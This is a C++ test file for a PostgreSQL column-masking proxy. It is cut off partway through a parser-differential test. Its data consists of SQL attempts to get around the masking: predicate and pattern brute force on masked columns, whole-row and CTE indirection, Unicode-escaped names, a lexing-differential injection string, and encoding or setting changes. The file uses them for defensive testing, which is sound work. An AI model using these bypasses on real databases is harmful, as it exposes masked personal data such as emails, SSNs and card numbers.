// The attack classes of MASKING-THREATS.md (/work/shared), one test group per
// class, run against the rewriter with the shop fixture's catalog and the
// "support" and "analytics" policies (tests/support/shop_policy.h).
//
// Every statement gets a decision from analyze_statement():
//  - refused: 42501 (42601 for parse failures), the expected rule, and a
//    message naming the object;
//  - rewritten: the output is parsed again and walked, and every RangeVar
//    naming a protected relation must be the only FROM item of a SelectStmt
//    whose target list is exactly the relation's columns, with masked ones
//    computed (not bare column references). That is the unit-level form of
//    "results do not depend on the hidden value": nothing outside the
//    masking subquery can reach a raw protected column
//    (expect_only_masked_reads);
//  - passed: only statements that name no protected relation.
// The "admins" policy masks nothing, so its statements are never touched.
#include <gtest/gtest.h>

#include <algorithm>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "rules/pg_tree.h"
#include "rules/rewriter.h"
#include "tests/support/shop_policy.h"

namespace pgcloak::rules {
namespace {

using Action = StatementDecision::Action;

// A RangeVar found in a parse tree, with the nearest message that holds it
// (Node wrappers skipped) and the field it sits in there.
struct Site {
  const PgQuery__RangeVar* rv = nullptr;
  const ProtobufCMessage* owner = nullptr;
  std::string field;
};

void collect_range_vars(const ProtobufCMessage* m, const ProtobufCMessage* m_owner, std::string_view m_field,
                        std::vector<Site>& out) {
  const bool m_is_node = is(m, pg_query__node__descriptor);
  walk_children(m, [&](const ProtobufCMessage* c, std::string_view f) {
    const ProtobufCMessage* owner = m_is_node ? m_owner : m;
    const std::string_view field = m_is_node ? m_field : f;
    if (is(c, pg_query__range_var__descriptor)) {
      out.push_back({reinterpret_cast<const PgQuery__RangeVar*>(c), owner, std::string(field)});
    }
    collect_range_vars(c, owner, field, out);
    return false;
  });
}

std::string describe(const StatementDecision& d) {
  switch (d.action) {
    case Action::pass: return "passed unchanged";
    case Action::rewrite: return "rewritten to: " + d.sql;
    case Action::refuse:
      return "refused (" + d.rule + "): " + (d.refusal ? d.refusal->message : std::string("?"));
  }
  return "?";
}

class MaskingThreatsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    protection_ = testing::shop_protection();
    support_ = std::make_unique<SessionPolicy>(protection_, "support");
    analyst_ = std::make_unique<SessionPolicy>(protection_, "analyst");
    admin_ = std::make_unique<SessionPolicy>(protection_, "admin");
  }

  const SessionPolicy& support() const { return *support_; }
  const SessionPolicy& analyst() const { return *analyst_; }

  // The relation a RangeVar of the re-parsed output names, if protected.
  const RelationMasks* protected_relation(const SessionPolicy& p, const PgQuery__RangeVar* rv) const {
    auto candidates = p.protection().by_name(rv->relname);
    if (rv->schemaname != nullptr && *rv->schemaname != '\0') {
      std::erase_if(candidates,
                    [&](const RelationProtection* c) { return c->relation->schema != rv->schemaname; });
    }
    if (candidates.empty()) return nullptr;
    return p.masks_for(candidates.front()->relation->oid);
  }

  // Every read of a protected relation in sql goes through a masking
  // subquery: the RangeVar is the only FROM item of a plain SelectStmt
  // (no WHERE, GROUP BY, ...) that selects exactly the relation's columns,
  // in order, masked ones as expressions. DML targets (the relation written)
  // are allowed when allow_write_target is set. Returns what is wrong.
  std::vector<std::string> masked_read_problems(const std::string& sql, const SessionPolicy& p,
                                                bool allow_write_target = false) const {
    std::vector<std::string> problems;
    auto tree = ParseTree::parse(sql);
    if (!tree) return {"the rewritten statement does not parse: " + tree.error().message};
    std::vector<Site> sites;
    const auto& result = (*tree)->result();
    for (size_t i = 0; i < result.n_stmts; ++i) {
      if (result.stmts[i]->stmt != nullptr)
        collect_range_vars(&result.stmts[i]->stmt->base, nullptr, "", sites);
    }
    int protected_reads = 0;
    for (const auto& s : sites) {
      const RelationMasks* m = protected_relation(p, s.rv);
      if (m == nullptr) continue;
      const std::string name = s.rv->relname;
      if (allow_write_target && s.field == "relation" &&
          (is(s.owner, pg_query__insert_stmt__descriptor) || is(s.owner, pg_query__update_stmt__descriptor) ||
           is(s.owner, pg_query__delete_stmt__descriptor))) {
        continue;
      }
      ++protected_reads;
      if (s.owner == nullptr || !is(s.owner, pg_query__select_stmt__descriptor) || s.field != "from_clause") {
        problems.push_back(name + " is held by " + (s.owner ? s.owner->descriptor->name : "nothing") +
                           " (field " + s.field + "), not by a masking SELECT");
        continue;
      }
      const auto* sel = reinterpret_cast<const PgQuery__SelectStmt*>(s.owner);
      if (sel->n_from_clause != 1 || sel->from_clause[0]->node_case != PG_QUERY__NODE__NODE_RANGE_VAR ||
          sel->from_clause[0]->range_var != s.rv) {
        problems.push_back(name + " is joined with something else inside the masking subquery");
        continue;
      }
      if (sel->where_clause != nullptr || sel->n_group_clause != 0 || sel->having_clause != nullptr ||
          sel->n_sort_clause != 0 || sel->n_window_clause != 0 || sel->n_distinct_clause != 0 ||
          sel->limit_count != nullptr || sel->limit_offset != nullptr || sel->with_clause != nullptr ||
          sel->n_values_lists != 0 || sel->op != PG_QUERY__SET_OPERATION__SETOP_NONE) {
        problems.push_back(name + ": the masking subquery does more than select (it could test raw values)");
      }
      const auto& cols = m->protection->relation->columns;
      if (sel->n_target_list != cols.size()) {
        problems.push_back(name + ": the masking subquery must select every column (" +
                           std::to_string(sel->n_target_list) + " of " + std::to_string(cols.size()) + ")");
        continue;
      }
      bool any_masked = false;
      for (size_t k = 0; k < cols.size(); ++k) {
        const PgQuery__Node* t = sel->target_list[k];
        const std::string col = name + "." + cols[k].name;
        if (t->node_case != PG_QUERY__NODE__NODE_RES_TARGET || t->res_target->val == nullptr) {
          problems.push_back(col + ": unexpected target");
          continue;
        }
        const PgQuery__ResTarget* res = t->res_target;
        const bool masked = m->refused[k] || m->specs[k].kind != MaskKind::allow;
        if (masked) {
          any_masked = true;
          if (res->val->node_case == PG_QUERY__NODE__NODE_COLUMN_REF) {
            problems.push_back(col + " is read raw by the masking subquery");
          }
          if (res->name == nullptr || res->name != cols[k].name)
            problems.push_back(col + ": wrong output name");
          // A mask is computed from its own column only: no subquery in it.
          bool sublink = false;
          walk_children(&res->val->base, [&](const ProtobufCMessage* c, std::string_view) {
            if (is(c, pg_query__sub_link__descriptor)) sublink = true;
            return !sublink;
          });
          if (sublink) problems.push_back(col + ": the mask holds a subquery");
        } else {
          if (res->val->node_case != PG_QUERY__NODE__NODE_COLUMN_REF ||
              string_list(res->val->column_ref->fields, res->val->column_ref->n_fields) !=
                  std::vector<std::string>{cols[k].name} ||
              (res->name != nullptr && *res->name != '\0' && res->name != cols[k].name)) {
            problems.push_back(col + ": an unmasked column is not passed through as itself");
          }
        }
      }
      if (!any_masked) problems.push_back(name + " was wrapped without masking anything");
    }
    if (protected_reads == 0) problems.push_back("no protected relation is read at all");
    return problems;
  }

  void expect_only_masked_reads(const std::string& sql, const SessionPolicy& p,
                                bool allow_write_target = false) const {
    auto problems = masked_read_problems(sql, p, allow_write_target);
    std::string all;
    for (const auto& pr : problems) all += "\n  " + pr;
    EXPECT_TRUE(problems.empty()) << "in: " << sql << all;
  }

  // sql names a protected relation: it must be rewritten so that every read
  // goes through a masking subquery. admins are never touched.
  void expect_rewritten(const SessionPolicy& p, const std::string& sql, bool allow_write_target = false) {
    SCOPED_TRACE(p.policy().name + ": " + sql);
    auto d = analyze_statement(sql, p);
    ASSERT_EQ(d.action, Action::rewrite) << describe(d);
    EXPECT_FALSE(d.relations.empty());
    expect_only_masked_reads(d.sql, p, allow_write_target);
    expect_admin_untouched(sql);
  }

  void expect_refused(const SessionPolicy& p, const std::string& sql, std::string_view rule,
                      std::string_view object) {
    SCOPED_TRACE(p.policy().name + ": " + sql);
    auto d = analyze_statement(sql, p);
    ASSERT_EQ(d.action, Action::refuse) << describe(d);
    ASSERT_TRUE(d.refusal.has_value());
    EXPECT_EQ(d.refusal->sqlstate, std::string(rule == "parse" ? "42601" : "42501"));
    EXPECT_EQ(d.rule, rule) << d.refusal->message;
    EXPECT_NE(d.refusal->message.find(object), std::string::npos)
        << "the message does not name " << object << ": " << d.refusal->message;
    if (rule != "parse") {
      EXPECT_NE(d.refusal->message.find("(rule " + std::string(rule) + ")"), std::string::npos)
          << d.refusal->message;
    }
    expect_admin_untouched(sql);
  }

  void expect_passed(const SessionPolicy& p, const std::string& sql) {
    SCOPED_TRACE(p.policy().name + ": " + sql);
    auto d = analyze_statement(sql, p);
    EXPECT_EQ(d.action, Action::pass) << describe(d);
    EXPECT_TRUE(d.sql.empty());
    expect_admin_untouched(sql);
  }

  void expect_admin_untouched(const std::string& sql) {
    EXPECT_FALSE(admin_->masks_anything());
    auto d = analyze_statement(sql, *admin_);
    EXPECT_EQ(d.action, Action::pass) << "admins: " << describe(d);
  }

  // Both masked policies.
  void rewritten_for_both(const std::string& sql) {
    expect_rewritten(support(), sql);
    expect_rewritten(analyst(), sql);
  }
  void refused_for_both(const std::string& sql, std::string_view rule, std::string_view object) {
    expect_refused(support(), sql, rule, object);
    expect_refused(analyst(), sql, rule, object);
  }

  std::shared_ptr<const Protection> protection_;
  std::unique_ptr<SessionPolicy> support_, analyst_, admin_;
};

TEST_F(MaskingThreatsTest, FixtureProtectsTheExpectedRelations) {
  std::set<std::string> names;
  for (const auto& r : protection_->relations()) names.insert(r.relation->name);
  EXPECT_EQ(names, (std::set<std::string>{"customers", "payments", "payments_2025_01", "customer_contacts",
                                          "contact_labels"}));
  EXPECT_EQ(support().policy().name, "support");
  EXPECT_EQ(analyst().policy().name, "analytics");
  EXPECT_EQ(admin_->policy().name, "admins");
  EXPECT_TRUE(support().masks_anything());
  EXPECT_TRUE(analyst().masks_anything());
  EXPECT_FALSE(admin_->masks_anything());
}

// The helper itself must catch raw reads, or the tests below prove nothing.
TEST_F(MaskingThreatsTest, HelperCatchesRawReads) {
  auto has = [](const std::vector<std::string>& problems, std::string_view what) {
    return std::any_of(problems.begin(), problems.end(),
                       [&](const std::string& p) { return p.find(what) != std::string::npos; });
  };
  EXPECT_TRUE(has(masked_read_problems("SELECT email FROM customers", support()), "every column"));
  EXPECT_TRUE(has(masked_read_problems("SELECT * FROM (SELECT id, email FROM customers) AS c", support()),
                  "every column"));
  EXPECT_TRUE(has(masked_read_problems("SELECT 1", support()), "no protected relation"));
  auto d = analyze_statement("SELECT email FROM customers", support());
  ASSERT_EQ(d.action, Action::rewrite) << describe(d);
  EXPECT_TRUE(masked_read_problems(d.sql, support()).empty()) << d.sql;
  // The raw table joined next to the masking subquery.
  EXPECT_TRUE(has(masked_read_problems(d.sql + " JOIN customers raw ON raw.id = customers.id", support()),
                  "held by"));
  // A masking subquery that filters on the raw value.
  EXPECT_TRUE(has(masked_read_problems(
                      "SELECT * FROM (SELECT id, full_name, 'x' AS email, 'x' AS phone, 'x' AS ssn, 'x' AS "
                      "card_number, NULL::date AS birth_date, 'x' AS address, 'x' AS notes, created_at FROM "
                      "customers WHERE email LIKE 'a%') AS c",
                      support()),
                  "does more than select"));
  // A masked column passed through raw.
  EXPECT_TRUE(has(masked_read_problems(
                      "SELECT * FROM (SELECT id, full_name, email, 'x' AS phone, 'x' AS ssn, 'x' AS "
                      "card_number, NULL::date AS birth_date, 'x' AS address, 'x' AS notes, created_at FROM "
                      "customers) AS c",
                      support()),
                  "customers.email is read raw"));
  // COPY of the table itself.
  EXPECT_TRUE(has(masked_read_problems("COPY customers TO STDOUT", support()), "held by"));
}

// 1. Predicates on the masked column.
TEST_F(MaskingThreatsTest, Class01_PredicatesOnMaskedColumn) {
  for (const char* sql : {
           "SELECT id FROM customers WHERE email = 'alice@example.com'",
           "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.phone = "
           "'+1-555-0100-0001'",
           "SELECT o.status, count(*) FROM orders o JOIN customers c ON c.id = o.customer_id "
           "GROUP BY o.status HAVING max(c.card_number) > '4'",
           "SELECT id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = o.customer_id AND "
           "c.address LIKE '%Main%')",
           "SELECT id FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE birth_date < "
           "'1980-01-01')",
           "SELECT id, CASE WHEN email LIKE 'a%' THEN 1 ELSE 0 END FROM customers",
           "SELECT count(*) FILTER (WHERE notes LIKE '%VIP%') FROM customers",
           "SELECT count(*) FROM payments WHERE card_number = '4111111111111111'",
           "SELECT id FROM customers WHERE full_name = 'Alice' AND email IS NOT NULL",
           "SELECT id FROM orders WHERE customer_id = ANY (SELECT id FROM customers WHERE phone <> '')",
       }) {
    rewritten_for_both(sql);
  }
  // The national_id category is redacted for support, denied for analytics.
  expect_rewritten(support(), "SELECT id FROM customers WHERE ssn = '123-45-6789'");
  expect_refused(analyst(), "SELECT id FROM customers WHERE ssn = '123-45-6789'", "deny:column", "ssn");
  expect_refused(analyst(),
                 "SELECT o.id FROM orders o WHERE EXISTS (SELECT 1 FROM customers c WHERE c.id = "
                 "o.customer_id AND c.ssn LIKE '1%')",
                 "deny:column", "ssn");
  expect_refused(analyst(), "SELECT count(*) FILTER (WHERE ssn IS NULL) FROM customers", "deny:column",
                 "ssn");
  expect_refused(analyst(), "SELECT CASE WHEN ssn > '5' THEN 1 END FROM customers", "deny:column",
                 "public.customers");
}

// 2. Pattern brute force, one character at a time.
TEST_F(MaskingThreatsTest, Class02_PatternBruteForce) {
  for (const char* sql : {
           "SELECT count(*) FROM customers WHERE email LIKE 'a%'",
           "SELECT count(*) FROM customers WHERE email ILIKE 'A%'",
           "SELECT count(*) FROM customers WHERE phone SIMILAR TO '\\+1-555%'",
           "SELECT count(*) FROM customers WHERE email ~ '^a'",
           "SELECT count(*) FROM customers WHERE notes ~* 'secret'",
           "SELECT count(*) FROM customers WHERE substring(card_number from 1 for 1) = '4'",
           "SELECT count(*) FROM customers WHERE substr(email, 2, 1) = 'l'",
           "SELECT count(*) FROM customers WHERE position('@' in email) > 5",
           "SELECT count(*) FROM customers WHERE strpos(address, 'Main') > 0",
           "SELECT count(*) FROM customers WHERE left(phone, 3) = '+1-'",
           "SELECT count(*) FROM customers WHERE right(card_number, 4) = '1111'",
           "SELECT count(*) FROM customers WHERE email < 'm'",
           "SELECT count(*) FROM customers WHERE email > 'm'",
           "SELECT count(*) FROM customers WHERE birth_date BETWEEN '1980-01-01' AND '1980-12-31'",
           "SELECT count(*) FROM payments_2025_01 WHERE card_number NOT LIKE '5%'",
           "SELECT id FROM customers WHERE split_part(email, '@', 2) = 'example.com'",
       }) {
    rewritten_for_both(sql);
  }
  expect_rewritten(support(), "SELECT count(*) FROM customers WHERE ssn LIKE '1%'");
  expect_refused(analyst(), "SELECT count(*) FROM customers WHERE ssn LIKE '1%'", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT count(*) FROM customers WHERE substring(ssn, 1, 1) = '1'", "deny:column",
                 "ssn");
  expect_refused(analyst(), "SELECT count(*) FROM customers WHERE ssn BETWEEN '1' AND '2'", "deny:column",
                 "ssn");
  expect_refused(analyst(), "SELECT count(*) FROM customers WHERE ssn ~ '^1'", "deny:column", "ssn");
}

// 3. Ordering and ranking.
TEST_F(MaskingThreatsTest, Class03_OrderingAndRanking) {
  for (const char* sql : {
           "SELECT id FROM customers ORDER BY email LIMIT 1",
           "SELECT id FROM customers ORDER BY card_number DESC NULLS LAST",
           "SELECT id, rank() OVER (ORDER BY birth_date) FROM customers",
           "SELECT id, row_number() OVER (PARTITION BY phone ORDER BY id) FROM customers",
           "SELECT id, lag(email) OVER (ORDER BY id) FROM customers",
           "SELECT id, ntile(4) OVER w FROM customers WINDOW w AS (ORDER BY address)",
           "SELECT DISTINCT ON (email) id FROM customers ORDER BY email, id",
           "SELECT min(email), max(card_number) FROM customers",
           "SELECT max(card_number) FROM payments",
           "SELECT id FROM customers ORDER BY 1 OFFSET 3",
       }) {
    rewritten_for_both(sql);
  }
  expect_rewritten(support(), "SELECT id FROM customers ORDER BY ssn");
  expect_refused(analyst(), "SELECT id FROM customers ORDER BY ssn", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT id, rank() OVER (ORDER BY ssn) FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT DISTINCT ON (ssn) id FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT min(ssn) FROM customers", "deny:column", "ssn");
}

// 4. Aggregates and grouping.
TEST_F(MaskingThreatsTest, Class04_AggregatesAndGrouping) {
  for (const char* sql : {
           "SELECT email, count(*) FROM customers GROUP BY email",
           "SELECT count(DISTINCT phone) FROM customers",
           "SELECT string_agg(email, ',' ORDER BY email) FROM customers",
           "SELECT array_agg(card_number) FROM payments",
           "SELECT json_agg(address) FROM customers",
           "SELECT jsonb_object_agg(id, notes) FROM customers",
           "SELECT birth_date, count(*) FROM customers GROUP BY ROLLUP (birth_date)",
           "SELECT count(*) FROM customers GROUP BY GROUPING SETS ((email), (phone))",
           "SELECT mode() WITHIN GROUP (ORDER BY card_number) FROM customers",
           "SELECT customer_id, count(DISTINCT card_number) FROM payments_2025_01 GROUP BY customer_id",
       }) {
    rewritten_for_both(sql);
  }
  expect_rewritten(support(), "SELECT ssn, count(*) FROM customers GROUP BY ssn");
  expect_refused(analyst(), "SELECT ssn, count(*) FROM customers GROUP BY ssn", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT count(DISTINCT ssn) FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT string_agg(ssn, ',') FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT jsonb_object_agg(id, ssn) FROM customers", "deny:column", "ssn");
}

// 5. Derived values: functions, operators, casts, encodings.
TEST_F(MaskingThreatsTest, Class05_DerivedValues) {
  for (const char* sql : {
           "SELECT email::bytea FROM customers",
           "SELECT CAST(phone AS text) FROM customers",
           "SELECT card_number::bigint FROM customers",
           "SELECT to_json(email), email::json FROM customers",
           "SELECT md5(email) FROM customers",
           "SELECT sha256(convert_to(card_number, 'UTF8')) FROM payments",
           "SELECT encode(convert_to(address, 'UTF8'), 'base64') FROM customers",
           "SELECT reverse(phone), translate(card_number, '0123456789', 'abcdefghij') FROM customers",
           "SELECT to_hex(length(email)), ascii(email) FROM customers",
           "SELECT email || '!' || phone FROM customers",
           "SELECT extract(year from birth_date), birth_date::text FROM customers",
           "SELECT upper(full_name), lower(notes) FROM customers",
           "SELECT octet_length(email), bit_length(phone) FROM customer_contacts",
           "SELECT format('%s/%s', email, phone) FROM customers",
       }) {
    rewritten_for_both(sql);
  }
  expect_rewritten(support(), "SELECT md5(ssn) FROM customers");
  expect_refused(analyst(), "SELECT md5(ssn) FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT ascii(ssn) FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT ssn::bytea FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT email || ssn FROM customers", "deny:column", "ssn");
}

// 6. Error and notice text.
TEST_F(MaskingThreatsTest, Class06_ErrorAndNoticeText) {
  // A failing cast prints the value it was given: the masked one.
  for (const char* sql : {
           "SELECT email::int FROM customers",
           "SELECT phone::date FROM customers WHERE id = 1",
           "SELECT notes::json FROM customers",
           "SELECT card_number::numeric FROM payments",
           "SELECT 1 / (length(email) - 10) FROM customers",
       }) {
    rewritten_for_both(sql);
  }
  // Procedural code is refused outright, whatever it names.
  refused_for_both("DO $$ BEGIN RAISE NOTICE '%', (SELECT email FROM customers LIMIT 1); END $$", "deny:do",
                   "DO blocks");
  refused_for_both("DO $$ BEGIN RAISE EXCEPTION 'x'; END $$", "deny:do", "DO blocks");
  refused_for_both("DO LANGUAGE plpgsql $x$ BEGIN RAISE WARNING '%', 1; END $x$", "deny:do", "DO blocks");
  refused_for_both(
      "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT * FROM cust' || 'omers' LOOP RAISE NOTICE "
      "'%', r; END LOOP; END $$",
      "deny:do", "DO blocks");
  refused_for_both(
      "CREATE FUNCTION f(text) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION '%', $1; "
      "END $$",
      "deny:function-ddl", "functions");
  // Constraint violations: "Failing row contains (...)" and "Key (...)=(...)"
  // DETAIL texts are scrubbed for masked sessions in proxy/relay_loop.cc
  // (detail_may_hold_values); rules/ lets a write of an allowed column run.
  expect_passed(support(), "UPDATE customers SET id = NULL WHERE id = 1");
}

// 7. Whole-row references.
TEST_F(MaskingThreatsTest, Class07_WholeRowReferences) {
  for (const char* sql : {
           "SELECT t FROM customers t",
           "SELECT t::text FROM customers t",
           "SELECT row_to_json(t) FROM customers t",
           "SELECT to_jsonb(c) FROM customers c",
           "SELECT ROW(t.*) FROM customers t",
           "SELECT customers FROM customers",
           "SELECT (c).card_number FROM payments c",
           "SELECT c.* FROM customer_contacts c",
           "SELECT hstore(t) FROM customers t",
           "SELECT json_populate_record(NULL::orders, row_to_json(p)) FROM payments p",
       }) {
    expect_rewritten(support(), sql);
  }
  // Functional notation: email(c) is c.email. For analytics the argument is
  // the whole row, which carries the denied ssn: refused (conservative).
  expect_rewritten(support(), "SELECT email(c) FROM customers c");
  expect_refused(analyst(), "SELECT email(c) FROM customers c", "deny:column", "whole-row");
  // For analytics the whole row carries the denied ssn: refused.
  expect_refused(analyst(), "SELECT t FROM customers t", "deny:column", "whole-row");
  expect_refused(analyst(), "SELECT t::text FROM customers t", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT row_to_json(t) FROM customers t", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT to_jsonb(c.*) FROM customers c", "deny:column", "through *");
  expect_refused(analyst(), "SELECT ROW(t.*) FROM customers t", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT customers FROM customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT ssn(c) FROM customers c", "deny:column", "ssn");
  // payments carries no denied column for analytics.
  expect_rewritten(analyst(), "SELECT row_to_json(p) FROM payments p");
}

// 8. Indirection in SQL.
TEST_F(MaskingThreatsTest, Class08_Indirection) {
  for (const char* sql : {
           "SELECT email FROM (SELECT * FROM customers) s",
           "SELECT s.e FROM (SELECT email AS e FROM customers) AS s WHERE s.e LIKE 'a%'",
           "WITH x AS (SELECT * FROM customers) SELECT email FROM x",
           "WITH x AS MATERIALIZED (SELECT email FROM customers) SELECT * FROM x WHERE email > 'b'",
           "WITH RECURSIVE r AS (SELECT id, email FROM customers WHERE id = 1 UNION ALL "
           "SELECT c.id, c.email FROM customers c JOIN r ON c.id = r.id + 1) SELECT * FROM r",
           // A CTE named like the table that reads the real table: both the
           // real table and the CTE reference are wrapped.
           "WITH customers AS (SELECT * FROM customers) SELECT email FROM customers",
           "WITH customers AS (SELECT * FROM public.customers) SELECT email FROM public.customers",
           "SELECT o.id, x.email FROM orders o, LATERAL (SELECT email FROM customers c WHERE c.id = "
           "o.customer_id) x",
           "SELECT o.id FROM orders o CROSS JOIN LATERAL (SELECT card_number FROM payments p WHERE "
           "p.customer_id = o.customer_id LIMIT 1) x",
           "SELECT email FROM customers UNION SELECT 'x'",
           "SELECT email FROM customers INTERSECT SELECT email FROM customer_contacts",
           "SELECT phone FROM customers EXCEPT ALL SELECT phone FROM customer_contacts",
           "SELECT v.e FROM (VALUES ('alice@example.com'), ('bob@example.com')) v(e) JOIN customers c ON "
           "c.email = v.e",
           "TABLE customers",
           "TABLE customer_contacts UNION ALL TABLE customer_contacts",
           "SELECT * FROM (TABLE payments) p",
           "SELECT * FROM ONLY customers",
           "SELECT card_number FROM payments_2025_01",
           "SELECT card_number FROM ONLY payments",
           "SELECT card_number FROM ONLY (payments_2025_01)",
           "SELECT email FROM customers *",
           "SELECT a.email FROM customers a JOIN customers b ON a.id = b.id",
           "SELECT * FROM customers c1 NATURAL JOIN customer_contacts c2",
           "SELECT id FROM orders o WHERE (SELECT email FROM customers c WHERE c.id = o.customer_id) LIKE "
           "'a%'",
       }) {
    expect_rewritten(support(), sql);
  }
  for (const char* sql : {
           "SELECT email FROM (SELECT id, email FROM customers) s",
           "WITH x AS (SELECT id, email FROM customers) SELECT email FROM x",
           "SELECT card_number FROM payments_2025_01 UNION SELECT card_number FROM payments",
           "SELECT card_number FROM ONLY payments_2025_01",
       }) {
    expect_rewritten(analyst(), sql);
  }
  expect_refused(analyst(), "SELECT ssn FROM (SELECT * FROM customers) s", "deny:column", "ssn");
  expect_refused(analyst(), "WITH x AS (SELECT * FROM customers) SELECT email FROM x", "deny:column",
                 "through *");
  expect_refused(analyst(), "TABLE customers", "deny:column", "ssn");
  expect_refused(analyst(), "SELECT ssn FROM customers UNION SELECT 'x'", "deny:column", "ssn");
  // TABLESAMPLE cannot be wrapped: refused.
  refused_for_both("SELECT email FROM customers TABLESAMPLE SYSTEM (10)", "deny:tablesample", "TABLESAMPLE");
}

// 9. Naming tricks.
TEST_F(MaskingThreatsTest, Class09_NamingTricks) {
  for (const char* sql : {
           "SELECT email FROM \"customers\"",
           "SELECT email FROM CuStOmErS",
           "SELECT email FROM U&\"\\0063ustomers\"",
           "SELECT email FROM u&\"\\0063\\0075stomers\"",
           "SELECT email FROM U&\"!0063ustomers\" UESCAPE '!'",
           "SELECT U&\"\\0065mail\" FROM customers",
           "SELECT email FROM public.customers",
           "SELECT email FROM \"public\".\"customers\"",
           "SELECT email FROM PUBLIC . CUSTOMERS",
           "SELECT email FROM shop.public.customers",
           "SELECT email FROM /* customers */ customers -- trailing",
           "SELECT email FROM public/**/./**/customers c",
           "SELECT $$customers$$, email FROM customers",
           "SELECT $q$ FROM customers $q$, email FROM customers",
           "SELECT 1; SELECT email FROM customers",
           "SELECT 'x'; TABLE customers; SELECT 2",
           "SELECT email FROM customers; SELECT card_number FROM payments",
           "SET search_path = evil, public; SELECT email FROM customers",
       }) {
    expect_rewritten(support(), sql);
  }
  // Different relations that only look alike are left alone.
  expect_passed(support(), "SELECT * FROM \"Customers\"");
  expect_passed(support(), "SELECT * FROM other.customers");
  expect_passed(support(), "SELECT 'customers' AS name FROM orders");
  // PostgreSQL truncates identifiers to 63 bytes; a longer name that does
  // not truncate to a protected one is another relation.
  expect_passed(support(), "SELECT * FROM customers" + std::string(60, 'x'));
  // Several statements: one refusal refuses the whole string.
  expect_refused(support(), "SELECT email FROM customers; DO $$ BEGIN NULL; END $$", "deny:do", "DO blocks");
  expect_refused(analyst(), "SELECT email FROM customers; SELECT ssn FROM customers", "deny:column", "ssn");
  expect_refused(support(), "SELECT email FROM customers; SELEC 1", "parse", "syntax error");
  expect_refused(support(), "SELECT email FROM U&\"\\0063ustomers", "parse", "could not parse");
  // NUL bytes: PostgreSQL cannot parse them; pgcloak refuses them before
  // parsing, as a policy refusal (42501, rule parse).
  {
    auto d = analyze_statement(std::string("SELECT email FROM customers\0; SELECT 1", 38), support());
    ASSERT_EQ(d.action, Action::refuse) << describe(d);
    EXPECT_EQ(d.rule, "parse");
    EXPECT_EQ(d.refusal->sqlstate, "42501");
    EXPECT_NE(d.refusal->message.find("NUL"), std::string::npos) << d.refusal->message;
  }
  // Lexing differentials: with standard_conforming_strings off PostgreSQL
  // reads 'x\' ... as an unfinished string with an escaped quote, where
  // libpg_query (standard strings) sees a complete one, so
  //   SELECT '\' ,' , (SELECT email FROM customers) AS leak, ' AS z --'
  // would be two harmless constants to pgcloak and a raw read to the
  // server. Every way to turn it off is refused; the relay refuses masked
  // statements while the server reports it off (a role or database default).
  for (const char* sql : {
           "SET standard_conforming_strings = off",
           "SET standard_conforming_strings TO false",
           "SET SESSION standard_conforming_strings = 0",
           "SET LOCAL standard_conforming_strings = 'off'",
           "SET standard_conforming_strings TO DEFAULT",
           "RESET standard_conforming_strings",
           "SET \"standard_conforming_strings\" = off",
           "ALTER DATABASE shop SET standard_conforming_strings = off",
       }) {
    expect_refused(support(), sql, "deny:string-syntax", "standard_conforming_strings");
  }
  expect_passed(support(), "SET standard_conforming_strings = on");
  expect_passed(support(), "SET standard_conforming_strings TO 'true'");
  expect_refused(support(), "SELECT set_config('standard_conforming_strings', 'off', false)", "deny:function",
                 "set_config");
  expect_refused(support(),
                 "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
                 "deny:settings", "pg_settings");
  expect_refused(support(), "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'role'",
                 "deny:settings", "pg_settings");
  expect_passed(support(),
                "SELECT name, setting FROM pg_settings WHERE name = 'standard_conforming_strings'");
  // A trailing line comment after the name must not swallow the splice.
  expect_rewritten(support(), "SELECT email\nFROM customers -- main table\nWHERE id = 1");
  expect_rewritten(support(), "SELECT c.email FROM customers -- x\n c WHERE c.id = 1");
  expect_rewritten(support(), "COPY customers -- x\n TO STDOUT");
  expect_rewritten(support(), "SELECT email FROM U&\"!0063ustomers\" UESCAPE '!' AS U&\"!0063\" UESCAPE '!'");
}

// Parser differentials (docs/masking.md): settings under which PostgreSQL
// reads a statement differently from libpg_query, or describes the
// rewritten statement back to the client, cannot be set by a masked
// session in any spelling.
TEST_F(MaskingThreatsTest, ParserDifferentials_ClientOnlyEncodings) {
  // In SJIS, BIG5, GBK, UHC, GB18030, JOHAB and SHIFT_JIS_2004 a
  // character's second byte can be 0x5C: PostgreSQL converts first and then
  // sees no backslash where the raw bytes show one.
  for (const char* enc : {"SJIS",       "sjis",       "Shift_JIS",      "shift-jis",  "MSKANJI",
                          "win932",     "windows932", "SHIFT_JIS_2004", "BIG5",       "win950",
                          "Windows950", "GBK",        "win936",         "windows936", "UHC",
                          "win949",     "windows949", "GB18030",        "gb-18030",   "JOHAB"}) {
    const std::string e(enc);
    for (const std::string& sql :
         {"SET client_encoding = '" + e + "'", "SET client_encoding TO '" + e + "'",
          "SET SESSION client_encoding = '" + e + "'", "SET LOCAL client_encoding = '" + e + "'",
          "SET NAMES '" + e + "'", "SET \"client_encoding\" = '" + e + "'",
          "SET CLIENT_ENCODING = '" + e + "'", "SET U&\"client\\005fencoding\" = '" + e + "'",
          "ALTER DATABASE shop SET client_encoding = '" + e + "'",
          "SELECT 1; SET client_encoding = '" + e + "'"}) {
